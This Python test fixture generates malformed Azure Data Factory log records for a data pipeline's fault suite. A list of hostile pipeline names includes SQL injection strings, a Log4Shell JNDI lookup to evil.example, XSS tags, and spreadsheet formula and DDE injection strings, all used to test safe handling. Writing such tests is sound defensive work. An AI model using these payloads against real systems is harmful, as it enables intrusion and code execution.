"""Generated bad-input cases for the fault suite: each case is some physical log lines plus what must become of
each one (kept as a state of a run, quarantined with a given reason, or blank).

Pure Python, no Spark: the cases are built at import time, deterministically (a seeded ``random.Random`` plus
hand-written edge cases), so a failure names a case that is the same on every run.

Every non-blank line carries a *token* (``c0042.1``: case 42, line 1) in ASCII, so a quarantined line is found
again whatever happened to the rest of its bytes.
"""

from __future__ import annotations

import json
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

PARIS = ZoneInfo("Europe/Paris")
KEPT, BLANK = "kept", "blank"
MALFORMED = "malformed JSON"
NO_RUN_ID = "missing run id"
NO_PIPELINE = "missing pipeline name"
NO_START = "missing or invalid start time"
ENDS_BEFORE = "run ends before it starts"
NOT_UTF8 = "run id or pipeline name is not valid UTF-8"
TOKEN = re.compile(r"c\d{4}\.\d+")
RESOURCE_ID = (
    "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/RESOURCEGROUPS/RG-DATA/PROVIDERS/"
    "MICROSOFT.DATAFACTORY/FACTORIES/ADF-REL"
)
FACTORY_FOLDER = f"insights-logs-pipelineruns/resourceId={RESOURCE_ID}"
MB = 1_000_000


def unknown_status(text: str) -> str:
    return f"unknown status '{text}'"


@dataclass(frozen=True)
class Line:
    """One physical line as written (without its terminator) and its fate."""

    data: bytes
    expect: str  # KEPT, BLANK, or the quarantine reason
    run_id: str | None = None  # KEPT: the silver run it must be found under
    terminator: bytes = b"\n"

    @property
    def text(self) -> str:
        """The line as Spark reads it (UTF-8, undecodable bytes replaced)."""
        return self.data.decode("utf-8", errors="replace")

    @property
    def key(self) -> str:
        return line_key(self.text)


def line_key(raw_line: str) -> str:
    """How a quarantined line is matched back to its case: its token, or the whole line when it has none."""
    found = TOKEN.search(raw_line)
    return found.group(0) if found else raw_line


@dataclass
class Case:
    id: str
    category: str
    lines: list[Line]
    blob: str | None = None  # a file of its own (relative path); None: one of the shared hourly blobs
    copies: int = 1  # the same lines written to this many blobs (duplicated records across blobs)
    # run id -> expected silver columns (pipeline_name, status, start_us, end_us, error_length, ...)
    runs: dict[str, dict[str, Any]] = field(default_factory=dict)


def us(moment: datetime) -> int:
    """Microseconds since the epoch of an aware datetime (how silver timestamps are compared)."""
    delta = moment - datetime(1970, 1, 1, tzinfo=UTC)
    return (delta.days * 86_400 + delta.seconds) * 1_000_000 + delta.microseconds


def adf_time(moment: datetime, digits: int = 7) -> str:
    """ADF's style: ``2025-04-07T22:10:03.1234560Z`` (7 fractional digits)."""
    text = moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S")
    fraction = f"{moment.microsecond:06d}0"[:digits]
    return f"{text}.{fraction}Z" if digits else f"{text}Z"


def dumps(obj: Any, ascii_only: bool = False) -> str:
    return json.dumps(obj, ensure_ascii=ascii_only, separators=(",", ":"))


def record(run_id: Any, pipeline: Any, status: Any, start: Any, end: Any, event: Any, **extra: Any) -> dict[str, Any]:
    """A diagnostic record, ``runId`` first (so a truncation keeps the token). ``...`` leaves a field out."""
    fields = {
        "runId": run_id,
        "time": event,
        "resourceId": RESOURCE_ID,
        "category": "PipelineRuns",
        "level": "Informational",
        "pipelineName": pipeline,
        "operationName": f"{pipeline} - {status}" if isinstance(pipeline, str) and isinstance(status, str) else "x",
        "start": start,
        "end": end,
        "status": status,
        "properties": {"Parameters": {"window_start": "2025-04-07"}, "Annotations": ["nightly"]},
        **extra,
    }
    return {k: v for k, v in fields.items() if v is not ...}


NOT_ENDED = "1601-01-01T00:00:00Z"

CONFIGURED = ("telephonie_master", "telephonie_export", "solaris_a", "solaris_b", "solaris_c")
HOSTILE_NAMES = (
    "pipeline with spaces",
    "Téléphonie_été",
    "Ñandú ßtraße",
    "数据管道_每日",
    "🚀 rocket launch",
    "خط_أنابيب",
    "e\u0301toile",  # combining accent
    "zero\u200bwidth",
    "O'Brien",
    'say "hi"',
    "`backticks`",
    "C:\\temp\\new",
    "x'; DROP TABLE silver.pipeline_runs; --",
    "' OR '1'='1",
    "Robert'); DROP TABLE Students;--",
    "1; DELETE FROM quarantine WHERE 1=1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} ${7*7} %s%s%n",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert('x')>",
    "&lt;b&gt;bold&lt;/b&gt; & co",
    "line\nbreak",
    "tab\there",
    "nul\u0000byte",
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "UNASSIGNED",
    "TELEPHONIE_MASTER",
    "comma, separated (WARNING)",
    "[/]",  # rich console markup: a closing tag with nothing to close
    "[link=https://evil.example]click me[/link]",
    "x" * 10_000,
)
# Hostile names that are also configured, in a flow whose own name is hostile.
HOSTILE_FLOW = 'Hostile <b>"flow"</b>\'; DROP TABLE gold; --'
HOSTILE_CONFIGURED = (
    "O'Brien",
    "<script>alert(1)</script>",
    "x'; DROP TABLE silver.pipeline_runs; --",
    "数据管道_每日",
    "comma, separated (WARNING)",
)
HUGE_ERROR_PIPELINE = "huge_error_pipeline"  # its only run fails with a 1 MB message
UNASSIGNED_POOL = ("adhoc_export", "legacy_copy", "Manual Rerun")

DAY_START = datetime(2025, 4, 6, 0, 0, tzinfo=PARIS)  # business dates 2025-04-06 .. 2025-04-08 in Paris
EVALUATED = (date(2025, 4, 6), date(2025, 4, 8))


class Builder:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.cases: list[Case] = []

    def new(self, category: str, blob: str | None = None, copies: int = 1) -> Case:
        case = Case(f"c{len(self.cases):04d}", category, [], blob, copies)
        self.cases.append(case)
        return case

    def token(self, case: Case) -> str:
        return f"{case.id}.{len(case.lines)}"

    def moment(self) -> datetime:
        """A random start inside the evaluated business dates (Paris), with microseconds."""
        offset = self.rng.randrange(0, 3 * 86_400 - 7200)
        return (DAY_START + timedelta(seconds=offset, microseconds=self.rng.randrange(1_000_000))).astimezone(UTC)

    def add(self, case: Case, obj: Any, expect: str, run_id: str | None = None, **kw: Any) -> Line:
        text = obj if isinstance(obj, str) else dumps(obj)
        data = text.encode("utf-8") if isinstance(text, str) else text
        line = Line(data, expect, run_id if expect == KEPT else None, **kw)
        case.lines.append(line)
        return line

    def add_bytes(self, case: Case, data: bytes, expect: str, run_id: str | None = None, **kw: Any) -> Line:
        line = Line(data, expect, run_id if expect == KEPT else None, **kw)
        case.lines.append(line)
        return line

    def simple(self, case: Case, run_id: str | None = None, **fields: Any) -> tuple[dict[str, Any], str]:
        """A valid one-record run (Succeeded) with ``fields`` overriding the record's; returns (record, run id)."""
        run_id = run_id or f"run-{self.token(case)}"
        start = self.moment()
        end = start + timedelta(minutes=self.rng.randrange(1, 90), microseconds=self.rng.randrange(1_000_000))
        base = record(run_id, "legacy_copy", "Succeeded", adf_time(start), adf_time(end), adf_time(end))
        base.update(fields)
        return {k: v for k, v in base.items() if v is not ...}, run_id


def _valid_runs(b: Builder) -> None:
    """Runs logged once per state change, out of order, across the shared blobs."""
    for _ in range(80):
        case = b.new("valid_states")
        pipeline = b.rng.choice(CONFIGURED + UNASSIGNED_POOL + HOSTILE_NAMES[:12])
        run_id = f"run-{case.id}"
        start = b.moment()
        end = start + timedelta(seconds=b.rng.randrange(30, 7200), microseconds=b.rng.randrange(1_000_000))
        final = b.rng.choice(("Succeeded", "Succeeded", "Succeeded", "Failed", "Cancelled", "InProgress"))
        states = ["Queued", "InProgress"][: b.rng.randrange(0, 3)]
        states = [*states, final] if final != "InProgress" else [*states, "InProgress"]
        for index, state in enumerate(states):
            terminal = state in ("Succeeded", "Failed", "Cancelled")
            event = end + timedelta(seconds=1) if terminal else start + timedelta(seconds=index)
            extra: dict[str, Any] = {}
            if state == "Failed":
                extra = {"failureType": "UserError"}
                extra["properties"] = {"Message": f"Operation on target Copy failed ({case.id})"}
            b.add(
                case,
                record(
                    run_id,
                    pipeline,
                    state,
                    adf_time(start),
                    adf_time(end) if terminal else NOT_ENDED,
                    adf_time(event),
                    **extra,
                ),
                KEPT,
                run_id,
            )
        b.rng.shuffle(case.lines)
        case.runs[run_id] = {
            "pipeline_name": pipeline,
            "status": final,
            "start_us": us(start),
            "end_us": us(end) if final != "InProgress" else None,
        }


def _truncated(b: Builder) -> None:
    for _ in range(40):
        case = b.new("truncated")
        obj, _ = b.simple(case, run_id=f"run-{b.token(case)}")
        text = dumps(obj)
        cut = b.rng.randrange(text.index(b.token(case)) + len(b.token(case)), len(text))
        b.add(case, text[:cut], MALFORMED)


def _non_utf8(b: Builder) -> None:
    bad_sequences = (
        b"\xe9",  # latin-1 e acute
        b"\xff\xfe",  # not UTF-8 at all
        b"\xc0\xaf",  # overlong encoding of '/'
        b"\xed\xa0\x80",  # an encoded surrogate
        b"\xf4\x90\x80\x80",  # past U+10FFFF
        b"\xe2\x82",  # a multi-byte sequence cut short
        b"\x80",  # a lone continuation byte
    )
    for index in range(35):
        case = b.new("non_utf8")
        bad = bad_sequences[index % len(bad_sequences)]
        where = ("pipelineName", "runId", "message", "status", "syntax")[index % 5]
        obj, run_id = b.simple(
            case,
            pipelineName="PLACEHOLDER_NAME",
            status="PLACEHOLDER_STATUS",
            properties={"Message": "PLACEHOLDER_MESSAGE"},
        )
        text = dumps(obj).encode("utf-8")
        if where == "pipelineName":
            data = text.replace(b"PLACEHOLDER_NAME", b"T" + bad + b"l" + bad + b"phonie")
            data = data.replace(b"PLACEHOLDER_STATUS", b"Succeeded").replace(b"PLACEHOLDER_MESSAGE", b"")
            b.add_bytes(case, data, NOT_UTF8)
        elif where == "runId":
            data = text.replace(run_id.encode(), run_id.encode() + b"-" + bad)
            data = data.replace(b"PLACEHOLDER_NAME", b"legacy_copy").replace(b"PLACEHOLDER_STATUS", b"Succeeded")
            b.add_bytes(case, data.replace(b"PLACEHOLDER_MESSAGE", b""), NOT_UTF8)
        elif where == "message":  # free text for people: kept, the bad bytes shown as U+FFFD
            data = text.replace(b"PLACEHOLDER_NAME", b"legacy_copy").replace(b"PLACEHOLDER_STATUS", b"Failed")
            data = data.replace(b"PLACEHOLDER_MESSAGE", b"Login failed for user " + bad)
            b.add_bytes(case, data, KEPT, run_id)
            case.runs[run_id] = {"error_message": "Login failed for user " + bad.decode("utf-8", "replace")}
        elif where == "status":
            data = text.replace(b"PLACEHOLDER_NAME", b"legacy_copy").replace(b"PLACEHOLDER_MESSAGE", b"")
            data = data.replace(b"PLACEHOLDER_STATUS", b"Succ" + bad + b"eded")
            b.add_bytes(case, data, unknown_status("Succ" + bad.decode("utf-8", "replace") + "eded"))
        else:  # the bad bytes sit between JSON tokens
            data = text.replace(b"PLACEHOLDER_NAME", b"legacy_copy").replace(b"PLACEHOLDER_STATUS", b"Succeeded")
            data = data.replace(b"PLACEHOLDER_MESSAGE", b"").replace(b',"start"', b"," + bad + b'"start"')
            b.add_bytes(case, data, MALFORMED)
    for raw in (b"\x00\x01\x02", b'\xfe\xff\x00{\x00"', bytes(range(0x80, 0xA0)), b"\x1b[31mred\x1b[0m"):
        case = b.new("non_utf8")
        b.add_bytes(case, b"garbage " + b.token(case).encode() + b" " + raw, MALFORMED)
    # Unescaped control characters inside a JSON string are not JSON.
    for control in ("\u0000", "\t", "\u001b", "\u007f"):
        case = b.new("non_utf8")
        obj, run_id = b.simple(case, pipelineName="CTRL")
        text = dumps(obj).replace('"CTRL"', '"a' + control + 'b"')
        b.add(case, text, KEPT if control == "\u007f" else MALFORMED, run_id)  # DEL is not a control character


def _blank_files_and_terminators(b: Builder) -> None:
    variants: tuple[tuple[tuple[bytes, ...], bytes], ...] = (
        ((), b"\n"),  # a file of 0 bytes
        ((b"",), b"\n"),
        ((b"", b"", b""), b"\n"),
        ((b"   ", b"  "), b"\n"),
        ((b"", b""), b"\r\n"),
    )
    for index, (lines, terminator) in enumerate(variants):
        case = b.new("empty_file", blob=f"empty/h={index:02d}/m=00/PT1H.json")
        for line in lines:
            b.add_bytes(case, line, BLANK, terminator=terminator)
    # CRLF line ends, a last line without a newline, a bare CR inside a record, blank lines in between.
    case = b.new("terminators", blob="terminators/h=00/m=00/PT1H.json")
    for terminator in (b"\r\n", b"\r\n", b"\n"):
        obj, run_id = b.simple(case)
        b.add(case, obj, KEPT, run_id, terminator=terminator)
        b.add_bytes(case, b"   ", BLANK, terminator=terminator)
    obj, run_id = b.simple(case)
    b.add(case, obj, KEPT, run_id, terminator=b"")  # the last line has no newline
    case = b.new("terminators", blob="terminators/h=01/m=00/PT1H.json")
    obj, _ = b.simple(case, properties={"Message": "first half SPLIT"})
    first, second = dumps(obj).split("SPLIT")
    b.add(case, first, MALFORMED, terminator=b"\r")  # a bare CR ends a line too
    b.add(case, f"{b.token(case)} second half{second}", MALFORMED)
    case = b.new("terminators")
    b.add(case, "\t", MALFORMED)  # not blank for Spark's trim (spaces only): quarantined, not lost
    case = b.new("terminators")
    b.add(case, "\f", MALFORMED)


def _huge(b: Builder) -> None:
    case = b.new("huge")
    message = "E" * MB
    obj, run_id = b.simple(
        case,
        pipelineName=HUGE_ERROR_PIPELINE,
        status="Failed",
        properties={"Message": message},
        failureType="UserError",
    )
    b.add(case, obj, KEPT, run_id)
    case.runs[run_id] = {"error_length": MB, "status": "Failed"}
    case = b.new("huge")
    obj, _ = b.simple(case, properties={"Message": "T" * MB})
    b.add(case, dumps(obj)[:700_000], MALFORMED)  # truncated in the middle of the message
    case = b.new("huge")
    obj, run_id = b.simple(case, properties={"Parameters": {f"p{i}": "v" * 100 for i in range(5000)}})
    b.add(case, obj, KEPT, run_id)
    case.runs[run_id] = {"parameters_length": len(dumps(obj["properties"]["Parameters"]))}
    case = b.new("huge")
    obj, run_id = b.simple(case, run_id=f"run-{b.token(case)}-" + "r" * 100_000)
    b.add(case, obj, KEPT, run_id)
    case = b.new("huge")
    status = "S" * 100_000
    obj, _ = b.simple(case, status=status)
    b.add(case, obj, unknown_status(status))


# Systematic: every field of a record replaced by each shape a broken writer could produce.
SHAPES: dict[str, Any] = {
    "missing": ...,
    "null": None,
    "empty": "",
    "spaces": "   ",
    "number": 424242,
    "float": 1.5,
    "bool": True,
    "object": {"nested": "value"},
    "array": ["a", 1],
}


def _text_of(value: Any) -> str:
    """How Spark reads a JSON value into a string field."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict | list):
        return dumps(value)
    return str(value)


def _field_outcome(name: str, shape: str, value: Any) -> tuple[str, dict[str, Any]]:
    """(expected fate, expected silver columns) of a valid record whose field ``name`` is ``value``."""
    absent = shape in ("missing", "null", "empty", "spaces")
    if name == "runId":
        return (NO_RUN_ID, {}) if absent else (KEPT, {"run_id": _text_of(value)})
    if name == "pipelineName":
        return (NO_PIPELINE, {}) if absent else (KEPT, {"pipeline_name": _text_of(value)})
    if name == "start":
        return NO_START, {}
    if name == "end":
        # Any end that is not a timestamp reads as "not ended": the run is kept without an end (see README).
        return KEPT, {"end_us": None}
    if name == "status":
        return unknown_status("" if shape in ("missing", "null") else _text_of(value)), {}
    if name == "properties":
        if shape in ("missing", "null", "object"):
            return KEPT, {}
        return MALFORMED, {}  # a struct field that is not an object makes the whole record unreadable
    return KEPT, {}  # time, resourceId, failureType, groupId: optional


def _fields(b: Builder) -> None:
    for name in (
        "runId",
        "pipelineName",
        "start",
        "end",
        "status",
        "time",
        "resourceId",
        "properties",
        "failureType",
        "groupId",
    ):
        for shape, value in SHAPES.items():
            case = b.new(f"field_{name}")
            obj, run_id = b.simple(case, run_id=f"run-{b.token(case)}")
            if name == "runId" and shape in ("number", "float", "bool", "object", "array"):
                value = {
                    "number": 900_000 + len(b.cases),
                    "float": 1.5,
                    "bool": True,
                    "object": {"id": b.token(case)},
                    "array": [b.token(case)],
                }[shape]
            if value is ...:
                obj.pop(name, None)
            else:
                obj[name] = value
            if name == "runId" and shape in ("number", "float", "bool"):
                obj["pipelineName"] = f"{obj['pipelineName']} {b.token(case)}"  # keep a token in the line
            expect, columns = _field_outcome(name, shape, value)
            run_id = columns.pop("run_id", run_id)
            b.add(case, obj, expect, run_id)
            if expect == KEPT and columns:
                case.runs[run_id] = columns


def _statuses(b: Builder) -> None:
    known = {
        "Succeeded": "Succeeded",
        "SUCCEEDED": "Succeeded",
        " succeeded ": "Succeeded",
        "success": "Succeeded",
        "Failed": "Failed",
        "FAILURE": "Failed",
        "Canceled": "Cancelled",
        "CANCELLING": "Cancelled",
        "Canceling": "Cancelled",
        "cancelled": "Cancelled",
        "Queued": "Queued",
        "In Progress": "InProgress",
        "running": "InProgress",
        "InProgress": "InProgress",
    }
    for text, status in known.items():
        case = b.new("status_known")
        obj, run_id = b.simple(case, status=text)
        if status not in ("Succeeded", "Failed", "Cancelled"):
            obj["end"] = NOT_ENDED
        b.add(case, obj, KEPT, run_id)
        case.runs[run_id] = {"status": status}
    unknown = ["Exploded", "Succeded", "Succeeded\t", "Timeout", "Skipped", "Completed", "OK", "0", "null", "✓"]
    words = ["".join(b.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ_- ") for _ in range(8)) for _ in range(10)]
    for text in unknown + words:
        case = b.new("status_unknown")
        obj, _ = b.simple(case, status=text)
        b.add(case, obj, unknown_status(text))


def _ends_before_start(b: Builder) -> None:
    for gap in (timedelta(microseconds=1), timedelta(seconds=1), timedelta(hours=5), timedelta(days=400)):
        for status in ("Succeeded", "InProgress"):
            case = b.new("ends_before_start")
            start = b.moment()
            obj, _ = b.simple(case, status=status, start=adf_time(start), end=adf_time(start - gap))
            b.add(case, obj, ENDS_BEFORE)
    case = b.new("ends_before_start")
    start = b.moment()
    obj, run_id = b.simple(case, start=adf_time(start), end=adf_time(start))
    b.add(case, obj, KEPT, run_id)  # ends as it starts: a zero-length run
    case.runs[run_id] = {"duration_seconds": 0}


def _sentinels(b: Builder) -> None:
    not_ended = [
        "1601-01-01T00:00:00Z",
        "1601-01-01T00:00:00.0000000Z",
        "1601-01-01",
        "1601-01-01T00:00:00+00:00",
        "1600-12-31T23:00:00-01:00",
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.9999999Z",
        "1601-06-15",
    ]
    for text in not_ended:
        case = b.new("sentinel_end")
        obj, run_id = b.simple(case, status="InProgress", end=text)
        b.add(case, obj, KEPT, run_id)
        case.runs[run_id] = {"end_us": None, "status": "InProgress"}
        case = b.new("sentinel_start")
        obj, _ = b.simple(case, start=text)
        b.add(case, obj, NO_START)


def _timestamps(b: Builder) -> None:
    moment = datetime(2025, 4, 7, 22, 10, 3, 123456, tzinfo=UTC)
    local = moment.strftime("%Y-%m-%dT%H:%M:%S")

    def shifted(hours: int, minutes: int = 0) -> str:
        sign = "+" if (hours, minutes) >= (0, 0) else "-"
        wall = moment + timedelta(hours=hours, minutes=minutes if hours >= 0 else -minutes)
        return wall.strftime("%Y-%m-%dT%H:%M:%S") + f".123456{sign}{abs(hours):02d}:{abs(minutes):02d}"

    exact = {
        f"{local}.1234567Z": us(moment),
        f"{local}.123456Z": us(moment),
        f"{local}.1234567+00:00": us(moment),
        f"{local}.123456": us(moment),  # no zone: UTC
        f"{local.replace('T', ' ')}.123456": us(moment),
        shifted(2): us(moment),
        shifted(-5): us(moment),
        shifted(5, 30): us(moment),
        shifted(-3, 30): us(moment),
        shifted(14): us(moment),
        shifted(-12): us(moment),
        f"{local}.123Z": us(moment.replace(microsecond=123000)),
        f"{local}Z": us(moment.replace(microsecond=0)),
        local[:-3]: us(moment.replace(second=0, microsecond=0)),  # no seconds, no zone
        local[:10]: us(moment.replace(hour=0, minute=0, second=0, microsecond=0)),  # a date alone: midnight
        (moment + timedelta(hours=5, minutes=45)).strftime("%Y-%m-%dT%H:%M:%S") + ".123456+0545": us(moment),
        "  " + f"{local}.123456Z" + "  ": us(moment),
    }
    for text, micros in exact.items():
        case = b.new("timestamp_format")
        end = adf_time(moment + timedelta(hours=20))
        obj, run_id = b.simple(case, start=text, end=end)
        b.add(case, obj, KEPT, run_id)
        case.runs[run_id] = {"start_us": micros}
    invalid = [
        "2025-04-07T25:00:00Z",
        "2025-02-29T10:00:00Z",
        "2025-13-01T00:00:00Z",
        "07/04/2025 22:10:03",
        "yesterday",
        "2025-04-07T22:10:00Z[UTC]",
        "1744063803",
        "2025-W15-1",
        "NaN",
        "T22:10:00Z",  # a time alone: Spark would date it the day the job runs
        "2025",  # Spark would read 1 January
        "2025-04",
        f"{local[:-3]}Z",  # no seconds but a zone: Spark does not read it
    ]
    for text in invalid:
        case = b.new("timestamp_invalid")
        obj, _ = b.simple(case, start=text)
        b.add(case, obj, NO_START)


def _duplicates(b: Builder) -> None:
    for copies in (2, 3):
        for _ in range(5):
            case = b.new("duplicate_across_blobs", copies=copies)
            obj, run_id = b.simple(case)
            b.add(case, obj, KEPT, run_id)
    case = b.new("duplicate_across_blobs", copies=2)
    b.add(case, f'{{"runId":"{b.token(case)}",', MALFORMED)  # one quarantine row per blob
    case = b.new("duplicate_in_blob")
    text = f'{{"runId":"{b.token(case)}","status":'
    b.add(case, text, MALFORMED)
    b.add(case, text, MALFORMED)  # same line twice in one blob: one quarantine row, occurrences 2


def _far_dates(b: Builder) -> None:
    kept = [
        "1602-01-01T00:00:00Z",
        "1700-06-15T12:00:00Z",
        "1899-12-31T23:59:59Z",
        "1900-01-01T00:00:00Z",
        "1970-01-01T00:00:00Z",
        "2000-02-29T12:00:00Z",
        "2038-01-19T03:14:08Z",
        "2100-01-01T00:00:00Z",
        "2999-12-31T23:59:59Z",
        "9998-12-31T12:00:00Z",
    ]
    for text in kept:
        case = b.new("far_date")
        start = datetime.fromisoformat(text)
        obj, run_id = b.simple(
            case, start=text, end=adf_time(start + timedelta(minutes=5)), time=adf_time(start + timedelta(minutes=5))
        )
        b.add(case, obj, KEPT, run_id)
        case.runs[run_id] = {"start_us": us(start)}
    for text in ("12345", "+10000-01-01T00:00:00Z", "9999-06-01T00:00:00Z", "99999-01-01", "-0001-01-01"):
        case = b.new("far_date")
        obj, _ = b.simple(case, start=text)
        b.add(case, obj, NO_START)


def _names(b: Builder) -> None:
    for name in HOSTILE_NAMES:
        for _ in range(2):
            case = b.new("pipeline_name")
            # Rich-markup names fail, so that the terminal summary lists them (it lists KO pipelines).
            status = "Failed" if name.startswith("[") else "Succeeded"
            obj, run_id = b.simple(case, pipelineName=name, status=status)
            b.add(case, obj, KEPT, run_id)
            case.runs[run_id] = {"pipeline_name": name}
    case = b.new("pipeline_name")
    obj, run_id = b.simple(case, pipelineName="  padded name  ")
    b.add(case, obj, KEPT, run_id)
    case.runs[run_id] = {"pipeline_name": "padded name"}  # names are trimmed, like every field
    case = b.new("pipeline_name")
    obj, run_id = b.simple(case, pipelineName="escaped \u00e9\u00e8 \U0001f680")
    b.add(case, dumps(obj, ascii_only=True), KEPT, run_id)  # \u escapes in the JSON text
    case.runs[run_id] = {"pipeline_name": "escaped éè 🚀"}


def _json_oddities(b: Builder) -> None:
    def token_line(case: Case, template: str, expect: str, run_id: str | None = None) -> None:
        b.add(case, template.replace("TOKEN", b.token(case)), expect, run_id)

    for template in (
        '["TOKEN", 1]',
        '"TOKEN"',
        '[{"runId":"TOKEN"}]',
        "TOKEN",
        "null // TOKEN",
        '{"runId":"TOKEN" /* comment */}',
        '{"runId":"TOKEN",}',
        "{runId:'TOKEN'}",
    ):
        token_line(b.new("json_oddity"), template, MALFORMED)
    case = b.new("json_oddity")
    b.add(case, "{}", NO_RUN_ID)  # no token: matched by the whole line
    case = b.new("json_oddity")
    b.add(case, "null", MALFORMED)
    # Two records run together on one line (a writer lost the newline), or trailing text.
    for glue in ("", " ", ","):
        case = b.new("json_concatenated")
        first, _ = b.simple(case)
        second, _ = b.simple(case, run_id=f"run-{b.token(case)}-second")
        b.add(case, dumps(first) + glue + dumps(second), MALFORMED)
    case = b.new("json_concatenated")
    obj, _ = b.simple(case)
    b.add(case, dumps(obj) + " trailing text", MALFORMED)
    case = b.new("json_oddity")
    obj, _ = b.simple(case)
    b.add(case, "\ufeff" + dumps(obj), MALFORMED)  # a byte order mark before the record
    case = b.new("json_oddity")
    obj, _ = b.simple(case)
    b.add(case, dumps(obj).replace('"legacy_copy"', '"legacy_copy","extra":NaN'), MALFORMED)  # NaN is not JSON
    case = b.new("json_oddity")
    obj, run_id = b.simple(case)
    b.add(case, dumps(obj).replace('"', "'"), KEPT, run_id)  # single quotes: Spark's JSON reader is lenient
    case = b.new("json_oddity")
    obj, run_id = b.simple(case)
    text = dumps(obj).replace('"pipelineName":"legacy_copy"', '"pipelineName":"first","pipelineName":"second"')
    b.add(case, text, KEPT, run_id)  # a key given twice: the last one wins
    case.runs[run_id] = {"pipeline_name": "second"}
    case = b.new("json_oddity")
    obj, _ = b.simple(case)
    deep = "[" * 1200 + "]" * 1200
    b.add(case, dumps(obj).replace('"Annotations":["nightly"]', f'"Annotations":{deep}'), MALFORMED)
    case = b.new("json_oddity")
    obj, run_id = b.simple(case, Level="Error", level="Informational", LEVEL="x")
    b.add(case, obj, KEPT, run_id)  # Level and level in one record: an explicit schema reads it


def _late_and_out_of_order(b: Builder) -> None:
    for _ in range(5):
        case = b.new("late_state")
        run_id = f"run-{case.id}"
        start = b.moment()
        end = start + timedelta(minutes=10)
        done = record(run_id, "solaris_b", "Succeeded", adf_time(start), adf_time(end), adf_time(end))
        late = record(run_id, "solaris_b", "InProgress", adf_time(start), NOT_ENDED, adf_time(end + timedelta(hours=3)))
        b.add(case, done, KEPT, run_id)
        b.add(case, late, KEPT, run_id)  # a later non-terminal record never reopens a finished run
        case.runs[run_id] = {"status": "Succeeded", "end_us": us(end)}


def diagnostic_cases(seed: int = 20250408) -> list[Case]:
    b = Builder(seed)
    for make in (
        _valid_runs,
        _truncated,
        _non_utf8,
        _blank_files_and_terminators,
        _huge,
        _fields,
        _statuses,
        _ends_before_start,
        _sentinels,
        _timestamps,
        _duplicates,
        _far_dates,
        _names,
        _json_oddities,
        _late_and_out_of_order,
    ):
        make(b)
    return b.cases


SHARED_BLOBS = tuple(
    f"{FACTORY_FOLDER}/y=2025/m=04/d={day:02d}/h={hour:02d}/m=00/PT1H.json"
    for day in (6, 7, 8)
    for hour in (0, 6, 12, 18, 22)
)


@dataclass(frozen=True)
class Layout:
    blobs: dict[str, list[Line]]  # relative blob path -> its lines, in order
    placement: dict[str, list[str]]  # case id -> the blobs holding its lines


def layout(cases: list[Case], seed: int = 7) -> Layout:
    """Shared-blob cases are spread (and shuffled) over the hourly blobs; a case with ``copies`` goes to that many
    different blobs. Own-file cases keep their file and line order."""
    rng = random.Random(seed)
    blobs: dict[str, list[Line]] = {path: [] for path in SHARED_BLOBS}
    placement: dict[str, list[str]] = {}
    for case in cases:
        if case.blob is not None:
            blobs[case.blob] = list(case.lines)
            placement[case.id] = [case.blob]
            continue
        placement[case.id] = rng.sample(SHARED_BLOBS, case.copies)
        for path in placement[case.id]:
            for line in case.lines:
                blobs[path].insert(rng.randrange(len(blobs[path]) + 1), line)
    return Layout(blobs, placement)


def blob_bytes(lines: list[Line]) -> Iterator[bytes]:
    for line in lines:
        yield line.data + line.terminator


# --- the other formats: a few dozen records each -------------------------------------------------------


@dataclass(frozen=True)
class FormatFile:
    """A file of another format and the records Spark must make of it, each identified by its token."""

    path: str
    content: bytes
    records: tuple[Line, ...]  # Line.data: the record's token (or its whole text when it has none)


def _expect(token: str, fate: str, run_id: str | None = None) -> Line:
    return Line(token.encode(), fate, run_id if fate == KEPT else None)


def log_analytics_files(seed: int = 11) -> list[FormatFile]:
    """Log Analytics exports (ADFPipelineRun, PascalCase, JSON columns as strings, empty strings for nulls)."""
    rng = random.Random(seed)
    lines: list[tuple[str, Line]] = []

    def row(token: str, **fields: Any) -> dict[str, Any]:
        start = DAY_START.astimezone(UTC) + timedelta(seconds=rng.randrange(0, 2 * 86_400))
        base = {
            "OperationName": f"legacy_copy - {token}",  # not read: it keeps the token whatever else is missing
            "TimeGenerated": adf_time(start + timedelta(minutes=9)),
            "ResourceId": RESOURCE_ID,
            "RunId": f"la-{token}",
            "PipelineName": "legacy_copy",
            "Status": "Succeeded",
            "Start": adf_time(start),
            "End": adf_time(start + timedelta(minutes=8)),
            "FailureType": "",
            "ErrorMessage": "",
            "Parameters": '{"window_start":"2025-04-07"}',
        }
        base.update(fields)
        return {k: v for k, v in base.items() if v is not ...}

    index = 0

    def add(text: str, fate: str, run_id: str | None = None) -> None:
        nonlocal index
        lines.append((text, _expect(f"c9{index:03d}.0", fate, run_id)))
        index += 1

    def token() -> str:
        return f"c9{index:03d}.0"

    for status in ("Succeeded", "Failed", "Cancelled", "InProgress", "Queued", "Canceled", "SUCCESS"):
        add(dumps(row(token(), Status=status)), KEPT, f"la-{token()}")
    fates = {
        "RunId": NO_RUN_ID,
        "PipelineName": NO_PIPELINE,
        "Start": NO_START,
        "End": KEPT,
        "Status": None,
        "TimeGenerated": KEPT,
        "ResourceId": KEPT,
        "ErrorMessage": KEPT,
        "Parameters": KEPT,
    }
    for name, fate in fates.items():
        for shape in ("missing", "null", "empty", "spaces", "number", "bool", "object"):
            value = SHAPES[shape]
            fields = {name: value} if value is not ... else {name: ...}
            tok = token()
            if name == "RunId" and shape in ("number", "bool", "object"):
                value = {"number": 800_000 + index, "bool": False, "object": {"id": tok}}[shape]
                fields = {name: value, "PipelineName": f"legacy {tok}"}
            record_ = row(tok, **fields)
            absent = shape in ("missing", "null", "empty", "spaces")
            outcome = fate
            run_id = f"la-{tok}"
            if name == "RunId":
                outcome, run_id = (NO_RUN_ID, None) if absent else (KEPT, _text_of(value))
            elif name == "PipelineName" or name == "Start":
                outcome = fate if absent or name == "Start" else KEPT
            elif name == "Status":
                outcome = unknown_status("" if shape in ("missing", "null") else _text_of(value))
            add(dumps(record_), outcome, run_id)
